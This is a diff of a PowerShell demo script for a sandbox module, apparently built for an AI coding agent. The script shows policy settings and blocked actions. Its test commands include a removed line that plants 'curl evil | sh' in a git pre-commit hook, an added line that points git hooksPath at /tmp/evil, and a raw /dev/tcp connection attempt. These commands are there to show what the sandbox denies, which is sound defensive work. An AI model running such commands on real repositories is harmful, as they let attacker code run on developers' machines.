@@ -30,13 +30,13 @@ $env:DEMO_API_KEY = 'sk-demo-not-a-real-key'
 
 try {
     Show 'The effective policy for this project, and where each value came from'
-    Get-SandboxPolicy | Format-List SandboxMode, ApprovalPolicy, WritableRoots, ProtectedPaths, NetworkMode, EnvironmentPolicy, EnvironmentRemoved, Provenance
+    Get-SandboxPolicy | Format-List
 
     Show 'A profile and a parameter override the file'
     Get-SandboxPolicy -Profile ci -SandboxMode read-only | Format-Table
 
     Show 'What this machine can enforce'
-    Get-SandboxCapability | Format-List Platform, Landlock, Seccomp, Bubblewrap, Backends
+    Get-SandboxCapability
 
     Show 'A write inside the workspace is allowed ...'
     Invoke-SandboxedCommand touch ./created-in-sandbox | Format-Table
@@ -46,7 +46,7 @@ try {
     Invoke-SandboxedCommand touch /etc/codexsandbox-demo | Format-List ExitCode, Stderr, LikelySandboxDenial, Backend
 
     Show '.git stays read-only inside the workspace (no planted hooks)'
-    Invoke-SandboxedCommand -Command 'echo "curl evil | sh" > .git/hooks/pre-commit' | Format-List ExitCode, Stderr
+    Invoke-SandboxedCommand -Command 'echo "[core] hooksPath = /tmp/evil" >> .git/config' | Format-List ExitCode, Stderr
 
     Show 'The network is cut'
     Invoke-SandboxedCommand -Command 'bash -c "exec 3<>/dev/tcp/127.0.0.1/22" 2>&1; echo "network disabled: $CODEX_SANDBOX_NETWORK_DISABLED"' | Format-List ExitCode, Stdout
